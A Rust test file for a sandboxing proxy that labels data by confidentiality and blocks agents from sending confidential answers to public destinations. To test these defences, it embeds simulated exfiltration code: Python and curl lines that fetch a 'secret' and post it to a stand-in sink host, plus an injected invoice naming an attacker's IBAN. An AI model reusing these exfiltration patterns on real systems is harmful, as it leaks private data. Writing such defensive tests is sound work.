//! Issue 19, item 3: the egress label is the call's label, and it floats up within a call.
//!
//! The code in a networked box is the attacker's. It reads what a destination cleared for
//! confidential data answers and, in the same call (or, for a server, in a later one), sends
//! it to a destination cleared only for public data. Each test runs that code in a real box
//! behind the real proxy, in the test's own network (`netlab`); the origin's log shows what
//! reached a destination.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod netlab;

use std::path::Path;
use std::time::Duration;

use netlab::*;
use serde_json::{Value, json};

/// A Python snippet run in a box: `ask(raw)` sends raw bytes to the proxy and reads until
/// the other side closes; `status(answer)` is its first line.
const RAW: &str = r#"
import socket, sys, json, time
PROXY = ("127.0.0.1", 3128)
def ask(raw, wait=20):
    s = socket.create_connection(PROXY, timeout=wait)
    s.sendall(raw)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except Exception as e:
        out += ("<%s>" % e).encode()
    s.close()
    return out.decode("latin-1")
def status(answer):
    return answer.split("\r\n", 1)[0]
def get(host, path="/"):
    return ask(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, path, host)).encode())
def post(host, path, body):
    head = "POST http://%s%s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (
        host, path, host, len(body))
    return ask(head.encode() + body)
"#;

/// The label and content of a `run` call of `code` in a `tool` box: `(class, content)`.
fn python(lab: &Lab, cfg: &Path, session: &str, tool: &str, code: &str) -> (String, Value) {
    let argv = json!({"argv": ["/usr/bin/python3", "-c", format!("{RAW}\n{code}")]});
    let v = lab.call_result(cfg, session, tool, &argv);
    let content: Value = serde_json::from_str(v["content"].as_str().unwrap()).unwrap();
    assert_eq!(content["exit"], 0, "{content}");
    (v["class"].as_str().unwrap_or_default().to_string(), content)
}

/// Every request that reached a path starting with `path` (see `Lab::reached`).
fn reached(lab: &Lab, path: &str) -> Vec<Value> {
    lab.reached(|p| p.starts_with(path))
}

/// A networked `run` whose own class is confidential: its answers are, whatever it reads.
const CONFNET: &str = r#"
[[tool]]
name = "confnet"
builtin = "run"
network = true
class = "confidential"
mounts = ["lab", "pyvenv", "node", "servers"]
env = ["SSL_CERT_FILE", "CURL_CA_BUNDLE"]
"#;

/// (a) The tool's own class is part of the call's label: a confidential tool in a public
/// session may not reach a destination cleared only for public data.
#[test]
fn a_confidential_tool_in_a_public_session_is_refused_a_public_destination() {
    let lab = Lab::new("float-toolclass");
    let cfg = lab.config("c", &format!("{BASE}{CONFNET}"));
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "confnet",
        "print(json.dumps({'public': status(get('allowed.test', '/echo')), \
         'cleared': status(get('cleared.test', '/echo'))}))",
    );
    let out = printed(&content);
    assert_eq!(
        out["public"],
        "HTTP/1.1 403 boxmaker refused allowed.test:80: this tool's answers are confidential \
         (its class) and that destination is cleared for public",
        "{content}"
    );
    assert!(
        !lab.origin_saw_host("allowed.test"),
        "the confidential tool reached a public destination: {:?}",
        lab.requests("origin")
    );
    // A destination cleared for its class still works, and its answer is what it is.
    assert!(
        out["cleared"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert_eq!(class, "confidential");
}

/// (b) What a destination answers floats the box's label up: once the box has read a
/// confidential destination's answer, a public one is refused in the same call, and the
/// call's result carries the label the box reached — over plain HTTP and through a TLS
/// tunnel.
#[test]
fn a_box_that_read_a_confidential_answer_cannot_send_it_to_a_public_destination() {
    let lab = Lab::new("float-answer");
    let cfg = lab.config("c", BASE);
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "net",
        "secret = get('cleared.test')\n\
         sent = post('allowed.test', '/sink/b', secret.encode('latin-1'))\n\
         print(json.dumps({'secret': status(secret), 'sent': status(sent)}))",
    );
    let out = printed(&content);
    assert!(
        out["secret"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert_eq!(
        out["sent"],
        "HTTP/1.1 403 boxmaker refused allowed.test:80: this box has read confidential data \
         (a destination's answer) and that destination is cleared for public",
        "{content}"
    );
    assert!(
        reached(&lab, "/sink/b").is_empty(),
        "the public destination got the confidential answer: {:?}",
        reached(&lab, "/sink/b")
    );
    assert_eq!(class, "confidential", "{content}");
    lab.wait_egress(&cfg, "refused allowed.test after the float", |r| {
        r["outcome"] == "refused"
            && r["host"] == "allowed.test"
            && r["reason"]
                .as_str()
                .is_some_and(|w| w.contains("this box has read confidential data"))
    });

    // The same through TLS tunnels, by curl: the answer read is the TLS stream.
    let v = lab.run_in_box(
        &cfg,
        "s2",
        "net",
        &[
            "sh",
            "-c",
            "curl -sS https://cleared.test/ -o /tmp/page && \
             curl -sSv --data-binary @/tmp/page https://allowed.test/sink/tls; echo \"exit=$?\"",
        ],
    );
    let err = v["stderr"].as_str().unwrap_or_default();
    assert!(
        err.contains("boxmaker refused allowed.test:443: this box has read confidential data"),
        "{v}"
    );
    assert!(
        reached(&lab, "/sink/tls").is_empty(),
        "{:?}",
        reached(&lab, "/sink/tls")
    );
    // And a session that never read it is not affected.
    let (class, content) = python(
        &lab,
        &cfg,
        "s3",
        "net",
        "print(json.dumps({'sent': status(post('allowed.test', '/sink/ok', b'public'))}))",
    );
    assert!(
        printed(&content)["sent"]
            .as_str()
            .unwrap()
            .starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert_eq!(class, "public");
}

/// (c) A rule's `returns` says what its answers are: a destination cleared for confidential
/// data whose answers are public does not float the box, so nothing is refused for them.
#[test]
fn a_destination_whose_answers_are_public_does_not_float_the_box() {
    let lab = Lab::new("float-returns");
    let rule = "name = \"cleared\"\nhost = \"cleared.test\"\nclass = \"confidential\"\n";
    assert!(BASE.contains(rule));
    let cfg = lab.config(
        "c",
        &BASE.replace(rule, &format!("{rule}returns = \"public\"\n")),
    );
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "net",
        "page = get('cleared.test')\n\
         sent = post('allowed.test', '/sink/c', page.encode('latin-1'))\n\
         print(json.dumps({'page': status(page), 'sent': status(sent), 'n': len(page)}))",
    );
    let out = printed(&content);
    assert!(
        out["sent"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    let n = out["n"].as_u64().unwrap();
    assert!(
        reached(&lab, "/sink/c")
            .iter()
            .any(|r| r["received"].as_u64() == Some(n)),
        "{:?}",
        reached(&lab, "/sink/c")
    );
    assert_eq!(class, "public");
    // `box show` says what its answers are.
    let show = lab.boxmaker(&cfg, &["box", "show", "--tool", "net"]);
    assert!(
        show.stdout.contains(
            "cleared.test (cleared) ports 443, 80 cleared for confidential, answers public"
        ),
        "{}",
        show.show()
    );
}

/// (d)'s box: opens B, waits for B's origin to say `100 Continue`, reads A, then sends A's
/// answer as the rest of B's body.
const OPEN_B_THEN_READ_A: &str = r#"
b = socket.create_connection(PROXY, timeout=20)
b.sendall(b'POST http://allowed.test/sink/d HTTP/1.1\r\nHost: allowed.test\r\n'
          b'Expect: 100-continue\r\nContent-Length: 4000\r\n\r\nbefore:')
cont = b''
while b'\r\n\r\n' not in cont:
    got = b.recv(4096)
    if not got:
        break
    cont += got
secret = get('cleared.test')
body = (secret * 20).encode('latin-1')[:3993]
try:
    b.sendall(body)
    sent = 'sent'
except OSError as e:
    sent = 'error: %s' % e
try:
    rest = b.recv(4096).decode('latin-1')
except OSError as e:
    rest = '<%s>' % e
print(json.dumps({'continue': status(cont.decode('latin-1')), 'secret': status(secret),
                  'sent': sent, 'rest': rest}))
"#;

/// (d) A connection opened before the answer came is cut when the answer reaches the box:
/// the bytes could otherwise flow out over it. The box opens B (public), has B's origin
/// confirm the request (`100 Continue`), reads A's confidential answer, then sends it as
/// B's body.
#[test]
fn a_connection_opened_before_a_confidential_answer_is_cut_when_it_arrives() {
    let lab = Lab::new("float-cut");
    let cfg = lab.config("c", BASE);
    let (class, content) = python(&lab, &cfg, "s1", "net", OPEN_B_THEN_READ_A);
    let out = printed(&content);
    assert_eq!(out["continue"], "HTTP/1.1 100 Continue", "{content}");
    assert!(
        out["secret"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    // B was open (its head reached the origin) before A was asked.
    let log = lab.requests("origin");
    let b_at = log.iter().position(|r| r["path"] == "/sink/d");
    let a_at = log.iter().position(|r| r["host"] == "cleared.test");
    assert!(
        matches!((b_at, a_at), (Some(b), Some(a)) if b < a),
        "{log:?}"
    );
    // Only what was sent before the answer arrived reached B.
    let got: Vec<u64> = reached(&lab, "/sink/d")
        .iter()
        .filter_map(|r| r["received"].as_u64())
        .collect();
    assert_eq!(got, vec![7], "B's origin read more than `before:`: {log:?}");
    assert!(
        !out["rest"].as_str().unwrap().contains("got "),
        "B answered: {content}"
    );
    assert_eq!(class, "confidential");
    let cut = lab.wait_egress(&cfg, "B closed as cut", |r| {
        r["outcome"] == "closed"
            && r["host"] == "allowed.test"
            && r["reason"]
                .as_str()
                .is_some_and(|w| w.starts_with("cut when"))
    });
    assert!(
        cut["reason"]
            .as_str()
            .unwrap()
            .contains("read confidential data from cleared.test"),
        "{cut}"
    );
}

/// A networked downstream server that keeps what it fetched between its calls.
const FLOAT_SERVER: &str = r#"
[[tool]]
name = "float"
mcp = ["/usr/bin/python3", "/opt/servers/float_server.py"]
network = true
mounts = ["servers"]
"#;

/// (e) A server's box floats the same way, and keeps what it reached: after one of its calls
/// read a confidential answer, its later answers carry that label and its connection to a
/// public destination is refused.
#[test]
fn a_server_that_read_a_confidential_answer_stays_at_that_label_for_its_later_calls() {
    let lab = Lab::new("float-server");
    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
    let got = lab.call_result(
        &cfg,
        "s1",
        "float_fetch",
        &json!({"url": "http://cleared.test/"}),
    );
    assert!(
        answer_text(&got).contains("origin page for cleared.test"),
        "{got}"
    );
    assert_eq!(got["class"], "confidential", "{got}");
    let sent = lab.call_result(
        &cfg,
        "s1",
        "float_send",
        &json!({"url": "http://allowed.test/sink/e"}),
    );
    assert_eq!(
        answer_text(&sent),
        "HTTP/1.1 403 boxmaker refused allowed.test:80: this box has read confidential data \
         (a destination's answer) and that destination is cleared for public",
        "{sent}"
    );
    assert_eq!(sent["class"], "confidential", "{sent}");
    assert!(
        reached(&lab, "/sink/e").is_empty(),
        "{:?}",
        reached(&lab, "/sink/e")
    );
}

/// (e) The same when the answer reaches the server between its calls (its own background
/// fetch, after its answer went out): the next answer of that server, whatever it says,
/// carries the label the server reached, and it cannot send what it read to a public
/// destination.
#[test]
fn a_server_that_read_a_confidential_answer_between_calls_labels_every_later_answer() {
    let lab = Lab::new("float-between");
    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
    let started = lab.call_result(
        &cfg,
        "s1",
        "float_fetch_later",
        &json!({"url": "http://cleared.test/"}),
    );
    assert_eq!(answer_text(&started), "started");
    assert_eq!(started["class"], "public", "{started}");
    // Wait for the background fetch to have its answer.
    let status = wait_for("the server never fetched", Duration::from_secs(30), || {
        let s = lab.call_result(&cfg, "s1", "float_status", &json!({}));
        if answer_text(&s) != "kept 0 bytes" {
            Ok(s)
        } else {
            Err(s.to_string())
        }
    });
    assert_eq!(status["class"], "confidential", "{status}");
    let sent = lab.call_result(
        &cfg,
        "s1",
        "float_send",
        &json!({"url": "http://allowed.test/sink/between"}),
    );
    assert!(answer_text(&sent).starts_with("HTTP/1.1 403 "), "{sent}");
    assert!(
        reached(&lab, "/sink/between").is_empty(),
        "{:?}",
        reached(&lab, "/sink/between")
    );
}

/// A networked `run` that may write a public mount.
const OUTBOX: &str = r#"
[[mount]]
name = "outbox"
host = "LABDIR/outbox"
at = "/data/outbox"
class = "public"
write = true

[[tool]]
name = "netw"
builtin = "run"
network = true
mounts = ["lab", "outbox"]
"#;

/// No write down through the float: a box that may write a public mount cannot read a
/// confidential answer, which it could leave there for any public reader; it is refused the
/// destination rather than floated above the mount.
#[test]
fn a_box_that_can_write_a_public_mount_is_refused_a_confidential_answer() {
    let lab = Lab::new("float-writedown");
    std::fs::create_dir_all(lab.dir.join("outbox")).unwrap();
    // The box's user is an unprivileged host uid: the mount must let it write.
    std::fs::set_permissions(
        lab.dir.join("outbox"),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let cfg = lab.config("c", &format!("{BASE}{OUTBOX}"));
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "netw",
        "page = get('cleared.test')\n\
         open('/data/outbox/page.txt', 'w').write(page)\n\
         print(json.dumps({'page': status(page)}))",
    );
    assert_eq!(
        printed(&content)["page"],
        "HTTP/1.1 403 boxmaker refused cleared.test:80: its answers are confidential and this \
         box can write /data/outbox, a public mount, where what it read would go below its \
         label (no write down); a tool that reads there needs mounts = [...] without it, or \
         read-only",
        "{content}"
    );
    let left = std::fs::read_to_string(lab.dir.join("outbox/page.txt")).unwrap_or_default();
    assert!(
        !left.contains("origin page for cleared.test"),
        "the confidential answer was written to a public mount: {left}"
    );
    assert!(!lab.origin_saw_host("cleared.test"));
    assert_eq!(class, "public");
    // Issue 30: the untrusted bit too. A public answer is someone else's words unless its
    // rule says trusted: a box that can write a mount whose files are trusted (the person's
    // own) is refused it — what it read would come back as the person's files.
    let (_, content) = python(
        &lab,
        &cfg,
        "s1",
        "netw",
        "print(json.dumps({'page': status(get('allowed.test'))}))",
    );
    assert_eq!(
        printed(&content)["page"],
        "HTTP/1.1 403 boxmaker refused allowed.test:80: its answers are untrusted and this box \
         can write /data/outbox, a mount whose files are trusted, where what it read would come \
         back as the person's own files (no write down); a tool that reads there needs mounts \
         = [...] without it, or read-only, or the destination's rule trusted = true, or the \
         mount untrusted = true",
        "{content}"
    );
    // Public answers of a destination the person trusts still come, and may be written there.
    let trusted = BASE.replace(
        "[[egress]]\nhost = \"allowed.test\"\n",
        "[[egress]]\nhost = \"allowed.test\"\ntrusted = true\n",
    );
    assert_ne!(trusted, BASE);
    let cfg = lab.config("t", &format!("{trusted}{OUTBOX}"));
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "netw",
        "page = get('allowed.test')\n\
         open('/data/outbox/page.txt', 'w').write(page)\n\
         print(json.dumps({'page': status(page)}))",
    );
    assert!(
        printed(&content)["page"]
            .as_str()
            .unwrap()
            .starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert_eq!(class, "public");
}

/// A server's failure carries no label (the gate raises the taint by the tool's floor for
/// it), so once the server's box has read above what its session held when the call was
/// sent, the failure may not quote what the server says: the server reads a confidential
/// answer in the call and fails on purpose with it as its error text. The session's taint
/// rises to what the box read all the same (the runner reports the float before the answer),
/// so a later failure, decided at that taint, may say it: the model is never shown more than
/// its session's taint says. And a box that reads between calls raises the taint too, with
/// no answer to carry it.
#[test]
fn a_server_that_read_a_confidential_answer_cannot_fail_with_it() {
    let lab = Lab::new("float-fail");
    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
    let v = lab
        .call(
            &cfg,
            "s1",
            "float_fail",
            &json!({"url": "http://cleared.test/"}),
        )
        .json();
    assert_eq!(v["status"], "failed", "{v}");
    let message = v["message"].as_str().unwrap_or_default();
    assert!(
        !message.contains("origin page for cleared.test"),
        "a failure quoted the confidential answer: {message}"
    );
    let log = cfg.parent().unwrap().join("state/logs/s1/float.stderr");
    assert_eq!(
        message,
        format!(
            "float_fail: the call failed, and what the server said is withheld: its box has \
             read confidential, untrusted data (a destination's answer, or what a call of the \
             session handed it), and a failure carries no label; \
             its stderr is kept for the operator: `boxmaker tools log float --session s1` ({})",
            log.display()
        )
    );
    assert_eq!(session_class(&lab, &cfg, "s1"), "confidential");
    // At that taint, the same failure may be shown.
    let v = lab.call(&cfg, "s1", "float_fail", &json!({})).json();
    assert_eq!(v["status"], "failed", "{v}");
    assert!(
        v["message"]
            .as_str()
            .unwrap_or_default()
            .contains("origin page for cleared.test"),
        "{v}"
    );

    // Between calls: the server fetches after answering, and no answer ever carries it.
    let started = lab.call_result(
        &cfg,
        "s2",
        "float_fetch_later",
        &json!({"url": "http://cleared.test/"}),
    );
    assert_eq!(started["class"], "public", "{started}");
    wait_for("the server never fetched", Duration::from_secs(30), || {
        let v = lab.call_result(&cfg, "s2", "float_status", &json!({}));
        let t = answer_text(&v);
        if t == "kept 0 bytes" { Err(t) } else { Ok(()) }
    });
    assert_eq!(session_class(&lab, &cfg, "s2"), "confidential");
}

/// The class of `session`'s taint, as `boxmaker sessions` shows it.
fn session_class(lab: &Lab, cfg: &Path, session: &str) -> String {
    let out = lab.boxmaker(cfg, &["sessions"]);
    assert!(out.ok(), "{}", out.show());
    out.stdout
        .lines()
        .find_map(|l| {
            let mut words = l.split_whitespace();
            (words.next() == Some(session)).then(|| words.next().unwrap_or_default().to_string())
        })
        .unwrap_or_else(|| panic!("no session {session}: {}", out.show()))
}

/// A server's stderr may quote what its box read, as its error text may: once its box has
/// read above what the failure carries, a crash's `failed` answer names where the stderr is
/// kept (for the operator, whose state directory it is in) but carries none of it. The
/// server reads a confidential answer in the call, then crashes writing it to stderr.
#[test]
fn a_server_that_read_a_confidential_answer_cannot_crash_with_it_on_stderr() {
    let lab = Lab::new("float-crash");
    let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
    let v = lab
        .call(
            &cfg,
            "s1",
            "float_crash",
            &json!({"url": "http://cleared.test/"}),
        )
        .json();
    assert_eq!(v["status"], "failed", "{v}");
    let message = v["message"].as_str().unwrap_or_default();
    assert!(
        !message.contains("origin page for cleared.test") && !message.contains("crashing with"),
        "a crash's failure quoted the server's stderr, which holds the confidential answer: \
         {message}"
    );
    assert!(message.contains("withheld"), "{message}");
    let log = cfg.parent().unwrap().join("state/logs/s1/float.stderr");
    assert!(
        message.contains("boxmaker tools log float --session s1")
            && message.contains(&log.display().to_string()),
        "the failure does not say where the stderr is kept: {message}"
    );
    // The operator's copy is whole.
    let kept = std::fs::read_to_string(&log).unwrap();
    assert!(kept.contains("origin page for cleared.test"), "{kept}");
    let shown = lab.boxmaker(&cfg, &["tools", "log", "float", "--session", "s1"]);
    assert!(shown.ok(), "{}", shown.show());
    assert!(
        shown.stdout.contains("crashing with what I kept"),
        "{}",
        shown.show()
    );
}

/// The same for a server that cannot start: a destination answered its box while it
/// started (the proxy serves a box from its first moment), and it dies quoting that on
/// stderr. Its failure is the call's, which carries only the call's label: nothing it said.
#[test]
fn a_server_that_read_a_confidential_answer_as_it_started_cannot_fail_to_start_with_it() {
    let lab = Lab::new("float-start");
    let dier = r#"
[[tool]]
name = "dier"
mcp = ["/usr/bin/python3", "/opt/servers/float_server.py", "--fetch-then-die", "http://cleared.test/"]
network = true
mounts = ["servers"]
"#;
    let cfg = lab.config("c", &format!("{BASE}{dier}"));
    let v = lab.call(&cfg, "s1", "dier_status", &json!({})).json();
    assert_eq!(v["status"], "failed", "{v}");
    let message = v["message"].as_str().unwrap_or_default();
    assert!(
        !message.contains("origin page for cleared.test") && !message.contains("having read"),
        "a failure to start quoted what the server's box read: {message}"
    );
    assert!(
        message.contains("could not start, and what the server said is withheld")
            && message.contains("boxmaker tools log dier --session s1"),
        "{message}"
    );
    let kept =
        std::fs::read_to_string(cfg.parent().unwrap().join("state/logs/s1/dier.stderr")).unwrap();
    assert!(kept.contains("origin page for cleared.test"), "{kept}");
}

/// (c)'s other half: a connection is not cut by its own answer, nor by an answer no higher
/// than its clearance. `other.test` may be sent public data only but answers confidential
/// data: its answer keeps coming after it floated the box, and after an answer from a
/// destination whose answers are public (cleared for confidential) arrived too.
const HOLD_THEN_READ: &str = r#"
x = socket.create_connection(PROXY, timeout=20)
x.sendall(b'GET http://other.test/hold/3 HTTP/1.1\r\nHost: other.test\r\n\r\n')
first = x.recv(4096)
page = get('cleared.test')
rest = b''
try:
    while True:
        b = x.recv(4096)
        if not b:
            break
        rest += b
except OSError as e:
    rest += ('<%s>' % e).encode()
print(json.dumps({'first': status(first.decode('latin-1')), 'page': status(page),
                  'after': rest.decode('latin-1')}))
"#;

#[test]
fn a_connection_is_not_cut_by_its_own_answer_nor_by_one_it_is_cleared_for() {
    let lab = Lab::new("float-own");
    let rule = "name = \"cleared\"\nhost = \"cleared.test\"\nclass = \"confidential\"\n";
    let cfg = lab.config(
        "c",
        &format!(
            "{}\n[[egress]]\nhost = \"other.test\"\nreturns = \"confidential\"\n",
            BASE.replace(rule, &format!("{rule}returns = \"public\"\n"))
        ),
    );
    let (class, content) = python(&lab, &cfg, "s1", "net", HOLD_THEN_READ);
    let out = printed(&content);
    assert!(
        out["first"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert!(
        out["page"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    assert!(
        out["after"].as_str().unwrap().matches('.').count() >= 2,
        "other.test's answer stopped: {content}"
    );
    assert_eq!(class, "confidential", "other.test's answer floated the box");
    let closed = lab.wait_egress(&cfg, "other.test closed", |r| {
        r["outcome"] == "closed" && r["host"] == "other.test"
    });
    assert_eq!(closed["reason"], "ended", "{closed}");
}

/// Waits until no gate serves `cfg` (the on-demand gate ends 3 s after its last client), so
/// that the next call starts a new gate and a new runner, which knows only what the state
/// directory says.
fn wait_gate_gone(cfg: &Path) {
    let config = cfg.display().to_string();
    wait_for(
        "the on-demand gate never ended",
        Duration::from_secs(60),
        || {
            // Its command line is `boxmaker __gate --on-demand --config CFG` (read from /proc:
            // no tool that may be missing).
            let alive: Vec<String> = std::fs::read_dir("/proc")
                .unwrap()
                .flatten()
                .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
                .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
                .filter(|c| c.contains("__gate --on-demand") && c.contains(config.as_str()))
                .collect();
            if alive.is_empty() {
                Ok(())
            } else {
                Err(alive.join("; "))
            }
        },
    );
}

/// (h) A `run` that read a confidential answer, left it in the workspace and then failed
/// (it outlived its timeout) answers a `failed`, which carries no label. The session's taint
/// must still rise to what its box read: a later call, served by a new gate and runner (the
/// on-demand gate ended in between), must not send the workspace's copy to a public
/// destination, nor read it back as public.
#[test]
fn a_run_that_read_a_confidential_answer_and_then_failed_leaves_its_label_on_the_session() {
    let lab = Lab::new("float-failed-run");
    let cfg = lab.config("c", BASE);
    let code = format!("{RAW}\nopen('/work/loot', 'w').write(get('cleared.test'))\ntime.sleep(60)");
    let r = lab.call(
        &cfg,
        "s1",
        "net",
        &json!({"argv": ["/usr/bin/python3", "-c", code], "timeout": 5}),
    );
    let v = r.json();
    assert_eq!(v["status"], "failed", "{}", r.show());
    assert!(
        v["message"]
            .as_str()
            .unwrap_or_default()
            .contains("timed out"),
        "{v}"
    );
    wait_gate_gone(&cfg);

    let read = lab.call_result(&cfg, "s1", "read_file", &json!({"path": "/work/loot"}));
    assert_eq!(read["class"], "confidential", "{read}");
    let (class, content) = python(
        &lab,
        &cfg,
        "s1",
        "net",
        "loot = open('/work/loot', 'rb').read()\n\
         sent = post('allowed.test', '/sink/h', loot)\n\
         print(json.dumps({'loot': len(loot), 'sent': status(sent)}))",
    );
    let out = printed(&content);
    assert!(out["loot"].as_u64().unwrap() > 0, "{content}");
    assert!(
        reached(&lab, "/sink/h").is_empty(),
        "the workspace's copy of a confidential answer reached a public destination: {:?}",
        reached(&lab, "/sink/h")
    );
    assert!(
        out["sent"].as_str().unwrap().starts_with("HTTP/1.1 403"),
        "{content}"
    );
    assert_eq!(class, "confidential", "{content}");
    // And the audit log says why the session's taint rose.
    let log = std::fs::read_to_string(cfg.parent().unwrap().join("state/audit.log")).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("\"floated\"") && l.contains("\"s1\"")),
        "no floated record in the audit log"
    );
}

/// (i) A connection is cleared no higher than every rule its decision needed. `self.test` is
/// cleared for confidential by name, but it resolves to this machine's own address, which
/// only an address rule clearing public lets a box reach: at a confidential label the same
/// connection would be refused. So a connection to it opened while the box was public is cut
/// when a confidential answer reaches the box, as one to a public name is (test d).
#[test]
fn a_connection_through_an_address_rule_is_cut_at_that_rules_clearance() {
    let lab = Lab::new("float-cut-address");
    let rules = format!(
        "{BASE}\n[[egress]]\nhost = \"self.test\"\nclass = \"confidential\"\n\n\
         [[egress]]\nhost = \"{SELF_ADDR}\"\nports = [80]\nclass = \"public\"\n"
    );
    let cfg = lab.config("c", &rules);
    let code = OPEN_B_THEN_READ_A
        .replace("http://allowed.test/sink/d", "http://self.test/sink/i")
        .replace("Host: allowed.test", "Host: self.test");
    let (class, content) = python(&lab, &cfg, "s1", "net", &code);
    let out = printed(&content);
    assert_eq!(out["continue"], "HTTP/1.1 100 Continue", "{content}");
    assert!(
        out["secret"].as_str().unwrap().starts_with("HTTP/1.1 200"),
        "{content}"
    );
    let got: Vec<u64> = reached(&lab, "/sink/i")
        .iter()
        .filter_map(|r| r["received"].as_u64())
        .collect();
    assert_eq!(
        got,
        vec![7],
        "the connection through the public address rule carried the confidential answer: {:?}",
        lab.requests("canary")
    );
    assert_eq!(class, "confidential");
}

/// The grants of the laundering tests: `write_file` runs outright only with content no
/// untrusted answer showed (a stand-in for any sink a grant guards by provenance).
const PROVENANCE_GRANTS: &str = r#"
[[tool]]
name = "write_file"
builtin = "write_file"

[[grant]]
tool = "write_file"
effect = "allow"
when = [{ pointer = "/content", from = "not_untrusted" }]

[[grant]]
tool = "write_file"
effect = "ask"
"#;

/// [`BASE`] with its catch-all grant narrowed to the tools these tests call, and
/// [`PROVENANCE_GRANTS`].
fn provenance_base() -> String {
    let base = BASE.replace(
        "[[grant]]\ntool = \"*\"\neffect = \"allow\"\n",
        "[[grant]]\ntool = \"net\"\neffect = \"allow\"\n\n[[grant]]\ntool = \"read_file\"\neffect = \"allow\"\n",
    );
    assert_ne!(base, BASE);
    format!("{base}{PROVENANCE_GRANTS}")
}

/// What `check --explain` decides for `write_file` of `content` in `session`, at a clean
/// taint: only what the session's index holds can hold it.
fn check_content(lab: &Lab, cfg: &Path, session: &str, content: &str) -> String {
    let args = json!({"path": "/work/x", "content": content}).to_string();
    let r = lab.boxmaker(
        cfg,
        &[
            "check",
            "--session",
            session,
            "--tool",
            "write_file",
            "--arguments",
            &args,
            "--explain",
        ],
    );
    r.stdout.clone()
}

/// Issue 30, through egress: a networked `run` fetches a page that names the attacker's
/// IBAN (its call's arguments never do). What a destination answers is untrusted unless its
/// rule says `trusted = true`: the run's answer is untrusted, the session's taint becomes
/// untrusted, and the IBAN is the page's, untrusted. A rule that says `trusted = true` keeps
/// the box trusted.
#[test]
fn a_page_a_networked_run_fetched_is_untrusted_unless_its_rule_says_trusted() {
    let lab = Lab::new("float-untrusted");
    std::fs::write(
        lab.dir.join("static/invoice.txt"),
        "pay DE89 3704 0044 0532 0130 00 by Friday\n",
    )
    .unwrap();
    let base = provenance_base();
    let cfg = lab.config("c", &base);
    let code = "print(get('allowed.test', '/static/invoice.txt'))";
    let argv = json!({"argv": ["/usr/bin/python3", "-c", format!("{RAW}\n{code}")]});
    let v = lab.call_result(&cfg, "s1", "net", &argv);
    assert!(v["content"].as_str().unwrap().contains("DE89 3704"), "{v}");
    assert_eq!(v["untrusted"], json!(true), "{v}");
    let out = check_content(&lab, &cfg, "s1", "DE89370400440532013000");
    assert!(out.starts_with("ask\n"), "{out}");
    assert!(
        out.contains("first appeared in an untrusted answer of net"),
        "{out}"
    );
    let sessions = lab.boxmaker(&cfg, &["sessions"]).stdout;
    assert!(
        sessions
            .lines()
            .any(|l| l.starts_with("s1") && l.contains("untrusted")),
        "{sessions}"
    );

    // The same page from a destination the person trusts: the box stays trusted.
    let trusted = base.replace(
        "[[egress]]\nhost = \"allowed.test\"\n",
        "[[egress]]\nhost = \"allowed.test\"\ntrusted = true\n",
    );
    assert_ne!(trusted, base);
    let cfg = lab.config("t", &trusted);
    let v = lab.call_result(&cfg, "s2", "net", &argv);
    assert_eq!(v["untrusted"], json!(false), "{v}");
    let out = check_content(&lab, &cfg, "s2", "DE89370400440532013000");
    assert!(out.starts_with("allow\n"), "{out}");
}

/// Issue 30, through egress and the workspace: the `run` that fetched the page leaves it in
/// `/work` and outlives its timeout, so its answer is a `failed`, which carries no label.
/// The runner told the gate the moment the page reached the box (`floated`, now with the
/// untrusted bit): the session is untrusted, and `read_file` of the copy is untrusted too.
#[test]
fn a_page_left_in_the_workspace_by_a_run_that_failed_is_read_back_untrusted() {
    let lab = Lab::new("float-untrusted-fail");
    std::fs::write(
        lab.dir.join("static/invoice.txt"),
        "pay DE89 3704 0044 0532 0130 00 by Friday\n",
    )
    .unwrap();
    let cfg = lab.config("c", &provenance_base());
    let code = "page = get('allowed.test', '/static/invoice.txt')\n\
                open('/work/page.txt', 'w').write(page)\n\
                time.sleep(60)";
    let argv = json!({"argv": ["/usr/bin/python3", "-c", format!("{RAW}\n{code}")], "timeout": 3});
    let r = lab.call(&cfg, "s1", "net", &argv);
    assert_eq!(r.json()["status"], "failed", "{}", r.show());
    let floated = std::fs::read_to_string(cfg.parent().unwrap().join("state/audit.log"))
        .unwrap()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["event"] == "floated")
        .expect("no floated record");
    assert_eq!(floated["untrusted"], json!(true), "{floated}");
    let v = lab.call_result(&cfg, "s1", "read_file", &json!({"path": "/work/page.txt"}));
    assert!(v["content"].as_str().unwrap().contains("DE89 3704"), "{v}");
    assert_eq!(v["untrusted"], json!(true), "{v}");
    let out = check_content(&lab, &cfg, "s1", "DE89370400440532013000");
    assert!(out.starts_with("ask\n"), "{out}");
}
